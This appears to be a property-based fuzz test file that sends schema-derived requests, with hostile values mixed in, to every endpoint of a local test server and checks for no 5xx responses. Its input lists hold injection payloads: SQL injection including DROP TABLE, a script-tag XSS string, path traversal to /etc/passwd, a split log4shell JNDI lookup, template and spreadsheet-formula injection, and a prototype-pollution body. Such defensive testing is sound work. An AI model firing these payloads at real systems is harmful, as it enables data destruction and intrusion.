// The fuzz tier (issue 13): property-based requests generated from /api/openapi.json for every
// operation — bodies built from the operation's JSON Schema with hostile values mixed in (wrong
// types, huge, NUL/unicode, injection strings), malformed JSON, bad path ids and query values —
// sent anonymously, with a garbage token and as each role. Property: no answer is a 5xx; after
// the budget the server is still healthy. Reproduce a failure with FUZZ_SEED=<printed seed>.
// Run: node scripts/test.mjs fuzz  (or npx vitest run --project fuzz), on PGlite.
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROLES } from '../src/lib/access';
import { createOrg, createTestApp, login, type Session } from './harness';

const SEED = Number(process.env.FUZZ_SEED ?? 13013);
const RUNS = Number(process.env.FUZZ_RUNS ?? 5000);
// Ending the caller's session would only turn the rest of the run into 401s.
const SKIP = new Set(['POST /api/auth/logout']);

type Schema = { [k: string]: unknown };
interface Op {
  method: string;
  path: string;
  params: string[];
  query: Record<string, Schema>;
  body: Schema | undefined;
}

const NASTY = [
  '',
  ' ',
  'a\u0000b',
  '\ud800',
  '\u202e\u200b',
  '😀'.repeat(300),
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  '<script>alert(1)</script>',
  '../../../etc/passwd',
  ['$', '{jndi:ldap://x/a}'].join(''), // log4shell-style, kept out of a template literal
  '{{7*7}}',
  '=HYPERLINK("http://x")',
  '%00%ff',
  'null',
  '-1',
  '1e309',
  'x'.repeat(70_000),
];
const NUMBERS = [0, -1, 1, 0.5, -0.0001, 2 ** 31, 2 ** 53 + 2, 1e308, -1e308];
const ID = fc.oneof(
  fc.uuid(),
  fc.constantFrom(...NASTY.filter((s) => s.length < 1000)),
  fc.string({ maxLength: 80 }),
  fc.constantFrom('0', '-1', '99999999999999999999', 'null', 'undefined', '..', '%2e%2e'),
);
const nastyString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
);

/** Values shaped by a JSON Schema, sometimes of the wrong type or hostile. */
function fromSchema(s: Schema | undefined, depth = 0): fc.Arbitrary<unknown> {
  const wild = fc.oneof(fc.jsonValue({ maxDepth: 2 }), nastyString, fc.constantFrom(...NUMBERS));
  if (!s || depth > 5) return wild;
  const any = (s.anyOf ?? s.oneOf) as Schema[] | undefined;
  let shaped: fc.Arbitrary<unknown>;
  if (Array.isArray(s.enum) && s.enum.length) shaped = fc.constantFrom(...s.enum);
  else if (any?.length) shaped = fc.oneof(...any.map((x) => fromSchema(x, depth + 1)));
  else {
    const type = Array.isArray(s.type) ? s.type[0] : s.type;
    switch (type) {
      case 'object': {
        const props = (s.properties ?? {}) as Record<string, Schema>;
        const keys = Object.keys(props);
        shaped = keys.length
          ? fc.record(Object.fromEntries(keys.map((k) => [k, fromSchema(props[k], depth + 1)])), {
              requiredKeys: ((s.required ?? []) as string[]).filter((k) => keys.includes(k)),
            })
          : fc.dictionary(fc.string({ maxLength: 10 }), fc.jsonValue({ maxDepth: 1 }), {
              maxKeys: 4,
            });
        break;
      }
      case 'array':
        shaped = fc.array(fromSchema(s.items as Schema, depth + 1), { maxLength: 4 });
        break;
      case 'string':
        shaped = fc.oneof(
          s.format === 'uuid' ? fc.uuid() : fc.string({ maxLength: 20 }),
          s.format === 'email' ? fc.emailAddress() : fc.string({ maxLength: 20 }),
          s.format === 'date-time' ? fc.constant('2024-02-30T25:61:00Z') : nastyString,
          nastyString,
        );
        break;
      case 'integer':
      case 'number':
        shaped = fc.oneof(fc.integer(), fc.double({ noNaN: true }), fc.constantFrom(...NUMBERS));
        break;
      case 'boolean':
        shaped = fc.boolean();
        break;
      default:
        shaped = wild;
    }
  }
  return fc.oneof({ weight: 6, arbitrary: shaped }, { weight: 1, arbitrary: wild });
}

const MALFORMED = fc.constantFrom(
  '{',
  '{"a":',
  '[1,]',
  '{"a":1}}',
  'nul',
  '\u0000',
  '{"__proto__":{"x":1}}',
  '',
);

let t: Awaited<ReturnType<typeof createTestApp>>;
let ops: Op[] = [];
const callers: { name: string; headers: Record<string, string> }[] = [
  { name: 'anonymous', headers: {} },
  { name: 'bad-token', headers: { authorization: 'Bearer fid_not-a-real-token' } },
];

beforeAll(async () => {
  t = await createTestApp();
  const org = await createOrg(t.db, 'Fuzz');
  for (const role of ROLES) {
    const s: Session = await login(t.app, org.users[role]);
    callers.push({ name: role, headers: s.headers });
  }
  const doc = (await t.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as {
    paths: Record<string, Record<string, Schema>>;
  };
  for (const [path, methods] of Object.entries(doc.paths)) {
    for (const [m, op] of Object.entries(methods)) {
      const method = m.toUpperCase();
      if (SKIP.has(`${method} ${path}`)) continue;
      const parameters = (op.parameters ?? []) as { in: string; name: string; schema: Schema }[];
      const content = (op.requestBody as Schema | undefined)?.content as
        | Record<string, { schema: Schema }>
        | undefined;
      ops.push({
        method,
        path,
        params: [...path.matchAll(/\{(\w+)\}/g)].map((x) => x[1] as string),
        query: Object.fromEntries(
          parameters.filter((p) => p.in === 'query').map((p) => [p.name, p.schema]),
        ),
        body: content?.['application/json']?.schema,
      });
    }
  }
  ops = ops.sort((a, b) => `${a.method} ${a.path}`.localeCompare(`${b.method} ${b.path}`));
});
afterAll(async () => {
  await t?.app.close();
  await t?.db.close();
});

function request(op: Op) {
  const queryKeys = Object.keys(op.query);
  return fc.record({
    op: fc.constant(op),
    caller: fc.constantFrom(...callers.map((c) => c.name)),
    params: fc.tuple(...op.params.map(() => ID), fc.constant('')),
    query: queryKeys.length
      ? fc.record(Object.fromEntries(queryKeys.map((k) => [k, fromSchema(op.query[k])])), {
          requiredKeys: [],
        })
      : fc.constant({}),
    body: fc.oneof(
      { weight: 8, arbitrary: fromSchema(op.body).map((v) => ({ json: v })) },
      { weight: 1, arbitrary: MALFORMED.map((raw) => ({ raw })) },
    ),
  });
}

/** Percent-encodes; a lone surrogate goes out as the invalid UTF-8 bytes it would become. */
const enc = (v: string) => {
  try {
    return encodeURIComponent(v);
  } catch {
    return '%ED%A0%80';
  }
};

const qs = (q: Record<string, unknown>) => {
  const u = new URLSearchParams();
  for (const [k, v] of Object.entries(q))
    u.set(k, typeof v === 'string' ? v : (JSON.stringify(v) ?? ''));
  const s = u.toString();
  return s ? `?${s}` : '';
};

describe('fuzz', () => {
  it(`no 5xx over ${RUNS} generated requests (seed ${SEED}), then healthy`, async () => {
    expect(ops.length).toBeGreaterThan(50);
    let sent = 0;
    const statuses = new Map<number, number>();
    const arb = fc.constantFrom(...ops).chain(request);
    console.log(`fuzz: seed ${SEED}, ${RUNS} requests over ${ops.length} operations`);
    await fc.assert(
      fc.asyncProperty(arb, async (r) => {
        let i = 0;
        const url =
          r.op.path.replace(/\{\w+\}/g, () => enc(String(r.params[i++]))) +
          qs(r.query as Record<string, unknown>);
        const caller = callers.find((c) => c.name === r.caller) ?? callers[0];
        const withBody = r.op.method !== 'GET' && r.op.method !== 'DELETE';
        const payload = 'raw' in r.body ? r.body.raw : JSON.stringify(r.body.json ?? null);
        const res = await t.app.inject({
          method: r.op.method as 'GET',
          url,
          headers: {
            ...caller?.headers,
            ...(withBody ? { 'content-type': 'application/json' } : {}),
          },
          ...(withBody ? { payload } : {}),
        });
        sent++;
        statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1);
        if (res.statusCode >= 500) {
          throw new Error(
            `${res.statusCode} for ${caller?.name} ${r.op.method} ${url}\n` +
              `body: ${String(payload).slice(0, 500)}\nanswer: ${res.body.slice(0, 300)}\n` +
              `reproduce: FUZZ_SEED=${SEED} node scripts/test.mjs fuzz`,
          );
        }
      }),
      { seed: SEED, numRuns: RUNS, endOnFailure: true },
    );
    console.log(`fuzz: ${sent} requests, statuses ${JSON.stringify(Object.fromEntries(statuses))}`);
    expect(sent).toBeGreaterThanOrEqual(RUNS);
    const health = await t.app.inject({ method: 'GET', url: '/api/health' });
    expect(health.statusCode).toBe(200);
  });
});
